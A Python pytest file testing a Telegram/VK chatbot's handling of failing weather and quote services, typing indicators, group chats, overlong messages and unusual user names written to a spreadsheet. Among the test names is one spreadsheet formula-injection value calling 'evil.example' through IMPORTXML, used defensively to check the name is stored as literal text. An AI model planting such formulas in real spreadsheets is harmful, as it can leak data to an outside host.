"""Bad input and bad neighbours: the person always gets a useful sentence, nothing wrong is stored, nothing is lost."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from sandbox.emulator import Fault
from sandbox.phone import Phone
from sandbox.world import SandboxWorld
from tests.journeys.scripts import MEET, MENU
from tests.journeys.stage import Line, play, press, say, start
from tests.journeys.worlds import InProcess, listening, new_world


@pytest_asyncio.fixture
async def world(tmp_path: Path) -> AsyncIterator[SandboxWorld]:
    world = await new_world(tmp_path / "world")
    runner = InProcess(world)
    runner.start()
    await listening(world)
    yield world
    await runner.stop()
    await world.stop()


def phones(world: SandboxWorld) -> tuple[Phone, Phone]:
    return world.telegram.phone(7, "Аня"), world.vk.phone(7, "Аня")


@pytest.mark.parametrize(
    "fault",
    [
        Fault("reject", times=-1, status=500),
        Fault("html", times=-1, status=502),
        Fault("empty", times=-1),
        Fault("garbage", times=-1),
        Fault("drop", times=-1),
        Fault("hang", times=-1, seconds=30),
    ],
    ids=lambda fault: fault.kind,
)
async def test_the_weather_service_in_trouble(world: SandboxWorld, fault: Fault) -> None:
    for phone in phones(world):
        await play(MEET, phone)
    world.weather.faults.append(fault)
    for phone in phones(world):
        transcript = await play((press("Погода", "Служба погоды сейчас молчит"),), phone)
        assert "Попробовать ещё раз" in transcript[-1] or phone.keyboard, "there is a way on"
    world.weather.faults.clear()


async def test_typing_is_shown_while_an_api_is_asked(world: SandboxWorld) -> None:
    for phone, city in zip(phones(world), ("Казань", "Москва"), strict=True):
        await play((*MEET[:2], say(city, MENU)), phone)
        world.weather.faults.append(Fault("delay", times=1, seconds=1.0))
        await phone.press("Погода")
        seen = False
        while len(phone.bot_said(len(phone.chat) - 1)) == 0 or MENU not in phone.chat[-1].text:
            seen = seen or phone.typing
            await asyncio.sleep(0.01)
        assert seen


async def test_the_quote_service_in_trouble_falls_back_to_the_owners_tab(world: SandboxWorld) -> None:
    world.quotes.faults.append(Fault("reject", times=-1, status=500))
    own = {row[0] for row in world.owner.read("Цитаты")} | {row[1] for row in world.owner.read("Цитаты")}
    for phone in phones(world):
        transcript = await play((*MEET, press("Цитата дня", "Аня, мысль дня для вас", MENU)), phone)
        assert any(quote and f"«{quote}»" in transcript[-2] for quote in own)


STRANGE = {
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "right to left": "שלום עולם",
    "a template": "{имя}{город|x}",
    "a formula": '=IMPORTXML("https://evil.example","//a")',
    "a zero": "Ноль\x00байт",
    "markup": "<b>*_`[x](y)&amp;",
}


@pytest.mark.parametrize("text", STRANGE.values(), ids=STRANGE.keys())
async def test_strange_names_are_kept_as_they_are(world: SandboxWorld, text: str) -> None:
    kept = text.replace("\x00", "")
    meeting: tuple[Line, ...] = (
        start("Привет!", "Как мне к вам обращаться?"),
        say(text, f"Рад знакомству, {kept}!"),
        say("Казань", f"Чем помочь, {kept}?"),
    )
    for phone in phones(world):
        await play(meeting, phone)
    names = world.owner.headers("Пользователи").index("Имя")
    async with asyncio.timeout(20):
        while len(rows := world.owner.read("Пользователи")) < 3 or not all(row[names] for row in rows):
            await asyncio.sleep(0.05)
    assert [row[names] for row in rows[1:]] == [kept, kept], "the sheet holds the text itself"


async def test_the_longest_message_a_platform_takes_is_refused_kindly(world: SandboxWorld) -> None:
    telegram, vk = phones(world)
    for phone in (telegram, vk):
        await play((start("Привет!", "Как мне к вам обращаться?"), say("я" * 4000, "до 40 букв")), phone)
        assert len(phone.chat[-1].text) < 200


async def test_group_chats_are_answered_only_when_addressed(world: SandboxWorld) -> None:
    group = world.telegram.phone(8, "Борис", chat_id=-100500)
    await group.say("всем привет, как погода?")
    await group.say(f"@{world.telegram.username} привет")
    await play((), group)
    assert group.bot_said()
    assert len([bubble for bubble in group.chat if not bubble.mine]) <= 3
